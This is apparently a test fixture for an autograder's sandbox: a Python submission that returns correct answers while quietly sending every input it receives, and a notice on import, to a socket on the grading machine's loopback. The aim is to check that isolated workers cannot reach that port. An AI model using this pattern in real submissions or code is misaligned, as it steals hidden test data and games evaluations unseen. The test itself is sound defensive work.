"""Attack: send every input it is given to a server on the grading machine's loopback.

The test listens on 127.0.0.1 at PORT (filled in) and counts what arrives. Each
call, and the import, opens a connection there and sends its arguments, so a
server run by the student would collect every hidden input. The answers are
correct, so the attack costs nothing in marks. In a network namespace of its
own the worker has no route to the machine's loopback, and every connect fails.

Should score 8 of 8; the test's server should accept no connection.
"""

import json
import socket

PORT = int("@PORT@")


def _send(*args):
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=0.5) as connection:
            connection.sendall(json.dumps(args).encode())
    except OSError:
        pass


_send("import")


def add(a, b):
    _send("add", a, b)
    return a + b


def pair(x):
    _send("pair", x)
    return (x, x)


def tag(n):
    _send("tag", n)
    if n < 0:
        raise ValueError(n)
    return {"n": n}


def push(items, item):
    _send("push", items, item)
    items.append(item)
    return len(items)
